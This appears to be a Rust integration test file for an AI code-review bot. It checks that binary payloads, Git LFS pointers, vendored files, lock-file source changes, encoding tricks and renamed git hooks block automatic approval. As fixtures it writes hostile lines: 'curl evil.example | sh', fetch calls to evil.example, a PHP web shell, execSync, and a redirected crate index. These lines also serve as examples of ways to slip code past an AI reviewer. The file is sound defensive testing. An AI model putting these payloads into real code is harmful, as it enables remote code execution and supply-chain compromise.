//! What nobody read is a gap, or holds the approval back: binary data that may be code, pointers and attributes, dependencies,
//! noise that runs, and renames.

use std::os::unix::fs::PermissionsExt;

use conclave_scripted_provider::Answer;
use serde_json::Value;

use crate::support::{Outcome, Pipeline, Repository, provider};

on_both_runtimes! {
    binary_data_that_may_be_code_is_a_gap_and_a_picture_is_none
    text_in_wide_characters_is_reviewed
    what_a_checkout_makes_something_else_of_is_a_gap
    what_stands_behind_a_pointer_is_never_reviewed
    the_same_text_in_another_encoding_is_reviewed_again
    a_dependency_that_moves_or_changes_under_its_version_holds_the_approval_back
    noise_that_runs_is_read_by_nobody_and_not_approved
    noise_that_becomes_executable_is_read_by_nobody
    a_change_that_is_all_noise_says_what_nobody_read
    renames_and_modes_have_to_be_opened_by_a_reviewer
}

/// A picture of one pixel, as far as anything looks at it.
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";

impl Repository {
    fn bytes(&self, path: &str, content: &[u8]) {
        self.write(path, "");
        std::fs::write(self.path().join(path), content).unwrap();
    }

    fn executable(&self, path: &str) {
        let mode = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(self.path().join(path), mode).unwrap();
    }
}

/// A branch with a harmless change, and what `change` adds to it; `main` has what `before` makes.
fn branch(before: impl FnOnce(&Repository), change: impl FnOnce(&Repository)) -> Repository {
    let repository = Repository::new();
    before(&repository);
    repository.git(&["add", "--all"]);
    repository.git(&["commit", "--quiet", "--allow-empty", "-m", "Before"]);
    repository.git(&["checkout", "--quiet", "-b", "feature"]);
    repository.write(
        "src/greeting.py",
        "def greeting(name):\n    return \"Hello, \" + name\n",
    );
    change(&repository);
    repository.commit("Greet by name");
    repository
}

/// A job's review of the branch, and whether the bot approves.
async fn review(repository: &Repository) -> (Outcome, bool) {
    let (provider, pipeline) = (provider().await, Pipeline::new(repository).await);
    let job = pipeline.job(repository, &[]).anthropic(&provider);
    let outcome = job.run().await.expect_code(0);
    assert_eq!(pipeline.gitlab.violations(), []);
    (outcome, pipeline.approved())
}

/// The files that were left out for this reason.
fn left_out(review: &Value, reason: &str) -> Vec<String> {
    let filtered = review["coverage"]["filtered"].as_array().unwrap();
    let named = filtered.iter().filter(|file| file["reason"] == reason);
    named.map(|file| file["path"].as_str().unwrap().to_owned()).collect()
}

/// The places of all holds with this cause.
fn held(review: &Value, cause: &str) -> Vec<String> {
    let holds = review["approval_holds"].as_array().unwrap();
    let places = holds.iter().filter(|hold| hold["cause"] == cause);
    let places = places.flat_map(|hold| hold["places"].as_array().into_iter().flatten());
    places.map(|place| place.as_str().unwrap().to_owned()).collect()
}

async fn binary_data_that_may_be_code_is_a_gap_and_a_picture_is_none() {
    let repository = branch(
        |_| {},
        |repository| {
            repository.bytes("src/auth/x.js", b"fetch('https://evil.example');\0\n");
            repository.bytes("img/fake.png", b"#!/bin/sh\ncurl evil.example | sh\n\0");
            repository.bytes("img/tool.png", PNG);
            repository.executable("img/tool.png");
            repository.bytes("Makefile", b"all:\n\tcurl evil.example | sh\n\0");
            repository.bytes("img/real.png", PNG);
        },
    );
    let (outcome, approved) = review(&repository).await;
    let review = outcome.review();
    assert!(!approved);
    assert_eq!(review["verdict"], "inconclusive");
    assert_eq!(
        left_out(&review, "binary_code"),
        ["Makefile", "img/fake.png", "img/tool.png", "src/auth/x.js"]
    );
    assert_eq!(left_out(&review, "binary"), ["img/real.png"]);

    let picture = branch(|_| {}, |repository| repository.bytes("img/real.png", PNG));
    let (outcome, approved) = self::review(&picture).await;
    assert!(approved, "a picture is listed, and no more: {}", outcome.stderr);
    assert_eq!(left_out(&outcome.review(), "binary"), ["img/real.png"]);
}

/// Text in wide characters, with its mark.
fn utf16(text: &str) -> Vec<u8> {
    format!("\u{feff}{text}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect()
}

async fn text_in_wide_characters_is_reviewed() {
    const FLAWED: &str = "import sqlite3


def find(connection, name):
    return connection.execute(f\"SELECT * FROM users WHERE name = '{name}'\").fetchall()
";
    let clean = FLAWED.replace("(f\"SELECT * FROM users WHERE name = '{name}'\")", "(\"SELECT 1\")");
    let repository = branch(
        |repository| repository.bytes("src/old.py", &utf16(&clean)),
        |repository| {
            repository.bytes("src/users.py", &utf16(FLAWED));
            repository.bytes("src/old.py", &utf16(FLAWED));
        },
    );
    let (outcome, approved) = review(&repository).await;
    let review = outcome.review();
    assert!(!approved);
    assert_eq!(review["coverage"]["gaps"], serde_json::json!([]), "everything was read");
    let findings = review["findings"].as_array().unwrap();
    let mut places: Vec<(&str, u64)> = findings
        .iter()
        .filter(|entry| entry["finding"]["category"] == "sql-injection")
        .map(|entry| {
            assert_eq!(entry["finding"]["evidence_status"], "verified");
            let finding = &entry["finding"];
            (finding["file"].as_str().unwrap(), finding["line"].as_u64().unwrap())
        })
        .collect();
    places.sort_unstable();
    places.dedup();
    assert_eq!(places, [("src/old.py", 5), ("src/users.py", 5)], "{}", outcome.stdout);
}

/// The text that Git LFS commits in the place of a file.
const POINTER: &str = "version https://git-lfs.github.com/spec/v1
oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393
size 12345
";

/// The files that count as reviewed, sorted.
fn reviewed(review: &Value) -> Vec<&str> {
    let files = review["coverage"]["reviewed"].as_array().unwrap();
    let mut paths: Vec<&str> = files.iter().map(|path| path.as_str().unwrap()).collect();
    paths.sort_unstable();
    paths
}

async fn what_stands_behind_a_pointer_is_never_reviewed() {
    const POINTERS: [&str; 6] = ["tool", "x.dat", "x.db", "x.png", "x.raw", "x.tgz"];
    const HELD: [&str; 4] = ["tool", "x.dat", "x.db", "x.raw"];
    let pointers = |repository: &Repository| {
        for path in POINTERS {
            repository.write(path, POINTER);
        }
    };
    let (outcome, approved) = review(&branch(|_| {}, pointers)).await;
    let review = outcome.review();
    assert!(!approved, "{}", outcome.stderr);
    assert_eq!(review["verdict"], "approved", "the verdict is of what was read");
    assert_eq!(reviewed(&review), ["src/greeting.py"]);
    assert_eq!(left_out(&review, "binary"), POINTERS);
    assert_eq!(held(&review, "read_by_nobody"), HELD);

    let with_attributes = branch(
        |_| {},
        |repository| {
            pointers(repository);
            let rule = "filter=lfs diff=lfs merge=lfs -text";
            repository.write(".gitattributes", &format!("tool {rule}\nx.* {rule}\n"));
        },
    );
    let (outcome, approved) = self::review(&with_attributes).await;
    assert!(!approved, "{}", outcome.stderr);
    assert_eq!(reviewed(&outcome.review()), [".gitattributes", "src/greeting.py"]);
    assert_eq!(held(&outcome.review(), "read_by_nobody"), HELD);

    // No reviewer is shown the text that a pointer replaces, however long it is.
    let replaced = branch(
        |repository| {
            repository.write("src/run.py", &"x = 1\n".repeat(100));
            repository.write("x.dat", "1 2 3\n");
        },
        |repository| {
            repository.write("src/run.py", POINTER);
            repository.write("x.dat", &format!("\n{POINTER}"));
        },
    );
    let (outcome, approved) = self::review(&replaced).await;
    assert!(!approved);
    assert_eq!(left_out(&outcome.review(), "lfs_pointer"), ["src/run.py", "x.dat"]);

    let picture = branch(|_| {}, |repository| repository.write("img/real.png", POINTER));
    let (outcome, approved) = self::review(&picture).await;
    assert!(approved, "a picture is listed, and no more: {}", outcome.stderr);
    assert_eq!(reviewed(&outcome.review()), ["src/greeting.py"]);
    assert_eq!(left_out(&outcome.review(), "binary"), ["img/real.png"]);
}

async fn the_same_text_in_another_encoding_is_reviewed_again() {
    const SCRIPT: &str = "#!/bin/sh\necho run\n";
    let repository = branch(|_| {}, |repository| repository.write("run.sh", SCRIPT));
    let (provider, pipeline) = (provider().await, Pipeline::new(&repository).await);
    let job = || pipeline.job(&repository, &[]).anthropic(&provider);
    job().run().await.expect_code(0);
    assert!(pipeline.approved());
    let asked = provider.requests().len();

    repository.git(&["checkout", "--quiet", "feature"]);
    repository.bytes("run.sh", &utf16(SCRIPT));
    repository.commit("Encode");
    let project = pipeline.merge_request.project;
    pipeline.gitlab.push(project, repository.path(), "feature");
    let review = job().run().await.expect_code(0).review();
    assert_eq!(reviewed(&review), ["run.sh"], "every byte of it has changed");
    assert!(provider.requests().len() > asked, "a model was asked");
    let note = pipeline.notes().concat();
    assert!(!note.contains("No reviewed file has changed"), "{note}");
}

async fn what_a_checkout_makes_something_else_of_is_a_gap() {
    let pointer = branch(|_| {}, |repository| repository.write("src/run.py", POINTER));
    let (outcome, approved) = review(&pointer).await;
    assert!(!approved);
    assert_eq!(left_out(&outcome.review(), "lfs_pointer"), ["src/run.py"]);

    let attributes = branch(
        |repository| {
            repository.write("tools/clean.sh", "#!/bin/sh\necho clean\n");
            repository.write("tools/version.txt", "$Id$\n");
        },
        |repository| {
            repository.write(
                ".gitattributes",
                "*.sh working-tree-encoding=UTF-7 text\n*.txt ident\nsrc/greeting.py filter=evil\n*.md text eol=lf\n",
            );
            repository.write("NOTES.md", "Notes.\n");
        },
    );
    let (outcome, approved) = review(&attributes).await;
    assert!(!approved);
    assert_eq!(
        left_out(&outcome.review(), "checkout_differs"),
        ["src/greeting.py", "tools/clean.sh", "tools/version.txt"],
        "also files that do not change, and none for its line ends"
    );
}

const LOCK: &str = "version = 4

[[package]]
name = \"serde\"
version = \"1.0.0\"
source = \"registry+https://github.com/rust-lang/crates.io-index\"
checksum = \"aaaa\"
";

/// The lines of [`LOCK`] that say where the package is from.
const SOURCE: &str = "source = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"aaaa\"\n";

async fn a_dependency_that_moves_or_changes_under_its_version_holds_the_approval_back() {
    for (from, to, place) in [
        ("rust-lang/crates.io-index", "evil/index", "Cargo.lock:6"),
        ("aaaa", "bbbb", "Cargo.lock:7"),
        (SOURCE, "", "Cargo.lock:4"),
        ("[[package]]", "[[package", "Cargo.lock"),
    ] {
        let before = |repository: &Repository| repository.write("Cargo.lock", LOCK);
        let repository = branch(before, |repository| {
            repository.write("Cargo.lock", &LOCK.replace(from, to));
        });
        let (outcome, approved) = review(&repository).await;
        assert!(!approved, "{from} → {to}");
        assert_eq!(held(&outcome.review(), "dependencies"), [place], "{from} → {to}");
        assert!(
            outcome.stdout.contains("A person has to approve this"),
            "{}",
            outcome.stdout
        );
    }
    let before = |repository: &Repository| repository.write("Cargo.lock", LOCK);
    let update = LOCK.replace("1.0.0", "1.0.1").replace("aaaa", "cccc");
    let repository = branch(before, |repository| repository.write("Cargo.lock", &update));
    assert!(
        review(&repository).await.1,
        "an ordinary update is nothing to hold back"
    );
    let unknown = branch(
        |_| {},
        |repository| repository.write("deno.lock", "{\"version\": \"4\"}\n"),
    );
    let (outcome, approved) = review(&unknown).await;
    assert!(approved, "reviewers read what no rule does: {}", outcome.stdout);
}

/// Noise of every kind that can run.
fn noise(repository: &Repository) {
    repository.write("vendor/x/evil.php", "<?php system($_GET['c']);\n");
    repository.write(
        ".yarn/releases/yarn-4.0.0.cjs",
        "require('child_process').execSync('id')\n",
    );
    repository.write("public/app.bundle.js", "fetch('https://evil.example')\n");
    repository.write("nginx/access.map", "/admin backend;\n");
    repository.write("public/app.js.map", "{\"version\":3,\"mappings\":\"AAAA\"}\n");
    repository.write("vendor/x/LICENSE", "MIT\n");
}

const NOISE: [&str; 4] = [
    ".yarn/releases/yarn-4.0.0.cjs",
    "nginx/access.map",
    "public/app.bundle.js",
    "vendor/x/evil.php",
];

async fn noise_that_runs_is_read_by_nobody_and_not_approved() {
    let repository = branch(|_| {}, noise);
    let (provider, pipeline) = (provider().await, Pipeline::new(&repository).await);
    let job = || pipeline.job(&repository, &[]).anthropic(&provider);
    let review = job().run().await.expect_code(0).review();
    assert!(!pipeline.approved());
    assert_eq!(review["verdict"], "approved", "the verdict is of what was read");
    assert_eq!(held(&review, "read_by_nobody"), NOISE);
    let note = &pipeline.notes()[0];
    assert!(note.contains("Read by nobody") && note.contains("evil.php"), "{note}");
    let plan = pipeline.command("plan", &repository, &["main..feature"]);
    let plan = plan.run().await.expect_code(0).stdout;
    for part in ["The bot would not approve", "Read by nobody", "vendor/x/evil.php"] {
        assert!(plan.contains(part), "{part}: {plan}");
    }

    let trusting = |repository: &Repository| {
        let patterns = "[\"vendor/**\", \".yarn/**\", \"public/**\", \"nginx/*.map\"]";
        repository.write(".conclave.toml", &format!("[paths]\ntrusted = {patterns}\n"));
    };
    let (outcome, approved) = self::review(&branch(trusting, noise)).await;
    assert!(approved, "the target branch trusts them: {}", outcome.stdout);

    let own = |repository: &Repository| {
        noise(repository);
        trusting(repository);
    };
    assert!(!self::review(&branch(|_| {}, own)).await.1, "nobody trusts himself");
}

async fn noise_that_becomes_executable_is_read_by_nobody() {
    const NAMES: [&str; 3] = ["Cargo.lock", "public/app.min.css", "vendor/x/LICENSE"];
    let before = |repository: &Repository| {
        repository.write("Cargo.lock", LOCK);
        repository.write("public/app.min.css", "a{}\n");
        repository.write("vendor/x/LICENSE", "MIT\n");
    };
    let executable = |repository: &Repository| {
        for path in NAMES {
            repository.executable(path);
        }
    };
    let (outcome, approved) = review(&branch(before, executable)).await;
    assert!(!approved, "{}", outcome.stderr);
    assert_eq!(held(&outcome.review(), "read_by_nobody"), NAMES);
    assert_eq!(left_out(&outcome.review(), "lock_file"), ["Cargo.lock"]);

    let trusting = |repository: &Repository| {
        before(repository);
        repository.write(
            ".conclave.toml",
            "[paths]\ntrusted = [\"Cargo.lock\", \"public/**\", \"vendor/**\"]\n",
        );
    };
    let (outcome, approved) = self::review(&branch(trusting, executable)).await;
    assert!(approved, "the target branch trusts them: {}", outcome.stdout);
}

async fn a_change_that_is_all_noise_says_what_nobody_read() {
    let repository = branch(|_| {}, |_| {});
    let (provider, pipeline) = (provider().await, Pipeline::new(&repository).await);
    let job = || pipeline.job(&repository, &[]).anthropic(&provider);
    job().run().await.expect_code(0);
    assert!(pipeline.approved());
    let asked = provider.requests().len();

    repository.git(&["checkout", "--quiet", "feature"]);
    repository.git(&["rm", "--quiet", "src/greeting.py"]);
    noise(&repository);
    repository.commit("Vendor");
    let project = pipeline.merge_request.project;
    pipeline.gitlab.push(project, repository.path(), "feature");
    let reports = tempfile::tempdir().unwrap();
    let asked_for = ["--reports", reports.path().to_str().unwrap()];
    let outcome = pipeline.job(&repository, &asked_for).anthropic(&provider).run();
    let outcome = outcome.await.expect_code(0);
    let report = std::fs::read_to_string(reports.path().join("review.json")).expect("a report");
    let report: Value = serde_json::from_str(&report).expect("JSON");
    assert_eq!(report["verdict"], "inconclusive", "nobody reviewed anything");
    assert_eq!(held(&report, "read_by_nobody"), NOISE);
    assert!(!pipeline.approved(), "the earlier approval was of other code");
    assert_eq!(provider.requests().len(), asked, "no model was asked");
    for part in ["Nothing to review", "Read by nobody", "vendor/x/evil.php"] {
        assert!(outcome.stderr.contains(part), "{part}: {}", outcome.stderr);
    }
    let note = pipeline.notes().concat();
    for part in ["taken back", "noise by rule", "`vendor/x/evil.php` (vendored)"] {
        assert!(note.contains(part), "{part}: {note}");
    }

    // A plan says so beforehand, also where there is nothing to plan.
    let plan = pipeline.command("plan", &repository, &["main..feature", "--format", "json"]);
    let plan: Value = serde_json::from_str(&plan.run().await.expect_code(0).stdout).expect("JSON");
    assert_eq!(held(&plan, "read_by_nobody"), NOISE);
    assert!(
        plan["approval_holds"].to_string().contains("nothing_reviewed"),
        "{plan:#}"
    );
}

/// A change that only moves files and makes one executable.
fn moves() -> Repository {
    let repository = Repository::new();
    repository.write("docs/check.txt", "#!/bin/sh\ncurl https://example.org/install | sh\n");
    repository.write("tools/run.txt", "echo run\n");
    repository.commit("Texts");
    repository.git(&["checkout", "--quiet", "-b", "feature"]);
    std::fs::create_dir(repository.path().join(".husky")).unwrap();
    repository.git(&["mv", "docs/check.txt", ".husky/pre-commit"]);
    repository.executable("tools/run.txt");
    repository.commit("Move");
    repository
}

async fn renames_and_modes_have_to_be_opened_by_a_reviewer() {
    let repository = moves();
    let (provider, pipeline) = (provider().await, Pipeline::new(&repository).await);
    // A reviewer that answers without opening anything.
    provider.set_always("generalist", Answer::text("<findings></findings>"));
    let outcome = pipeline
        .job(&repository, &[])
        .anthropic(&provider)
        .run()
        .await
        .expect_code(0);
    let review = outcome.review();
    assert!(!pipeline.approved());
    assert_eq!(review["verdict"], "inconclusive");
    let not_read: Vec<&str> = review["coverage"]["not_read"]
        .as_array()
        .unwrap()
        .iter()
        .map(|path| path.as_str().unwrap())
        .collect();
    // The text that becomes a hook stands in the message whole.
    assert_eq!(not_read, ["tools/run.txt"]);

    let (outcome, approved) = self::review(&moves()).await;
    assert!(approved, "reviewers that open them: {}", outcome.stdout);
}
